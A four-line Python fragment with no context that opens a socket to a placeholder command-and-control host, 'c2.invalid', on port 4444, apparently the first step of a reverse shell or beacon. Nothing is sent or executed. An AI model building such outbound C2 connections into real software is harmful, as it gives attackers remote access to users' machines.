import socket

link = socket.socket()
link.connect(("c2.invalid", 4444))
